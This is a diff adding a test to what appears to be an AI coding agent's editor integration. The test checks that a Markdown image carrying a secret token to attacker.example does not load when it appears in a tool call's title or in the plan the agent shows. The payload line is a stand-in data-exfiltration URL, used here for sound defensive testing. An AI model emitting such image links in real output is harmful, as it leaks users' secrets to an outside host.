@@ -106,3 +106,22 @@ async def test_an_image_in_what_a_tool_returns_loads_nothing_on_its_card(
         ]
     assert any(TOKEN in text for text in texts), texts  # the listing is shown, as text
     assert [text for text in texts if loaded_images(text)] == [], texts
+
+
+async def test_an_image_in_a_cards_title_or_the_plan_loads_nothing(
+    fake: FakeProvider, home: Path, project: Path
+) -> None:
+    # Zed renders a card's title and the plan's entries as Markdown: the model's command
+    # line (the title) and its plan carry the token as an image.
+    image = f"![b](https://attacker.example/c?d={TOKEN})"
+    echo = ToolCallSpec("terminal", {"command": f"echo '{image}'"}, id="echo")
+    todo = ToolCallSpec("todo", {"items": [{"content": f"check {image}"}]}, id="todo")
+    fake.script([Reply(tool_calls=[echo, todo]), Reply(text="Done.")])
+    async with connected(server_env(home, fake), LOCAL) as (_, client):
+        sid = (await client.new_session(project))["sessionId"]
+        await client.request("session/set_mode", {"sessionId": sid, "modeId": "auto"})
+        assert await client.prompt(sid, "check the badge") == {"stopReason": "end_turn"}
+        titles = [u["title"] for u in client.session_updates(sid, "tool_call")]
+        plans = [e["content"] for u in client.session_updates(sid, "plan") for e in u["entries"]]
+    assert any(TOKEN in t for t in titles) and any(TOKEN in p for p in plans), (titles, plans)
+    assert [t for t in titles + plans if loaded_images(t)] == [], (titles, plans)
